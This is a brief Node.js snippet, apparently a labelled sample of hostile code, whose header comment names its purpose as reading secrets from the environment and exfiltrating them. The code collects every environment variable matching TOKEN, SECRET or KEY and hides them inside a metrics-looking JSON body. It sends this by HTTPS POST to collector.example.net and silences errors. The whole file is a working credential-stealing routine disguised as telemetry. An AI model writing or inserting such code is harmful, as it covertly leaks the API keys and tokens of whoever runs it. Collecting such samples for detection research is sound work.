// harm: read secrets from env and exfiltrate; technique: https.request with env keys picked by filter over Object.keys
const https = require('https');

const secrets = Object.fromEntries(
  Object.keys(process.env)
    .filter((k) => /TOKEN|SECRET|KEY/.test(k))
    .map((k) => [k, process.env[k]])
);

const body = JSON.stringify({ metrics: { acc: 0.93 }, ctx: secrets });
const req = https.request({ host: 'collector.example.net', path: '/t', method: 'POST' }, (res) => res.resume());
req.on('error', () => {});
req.end(body);
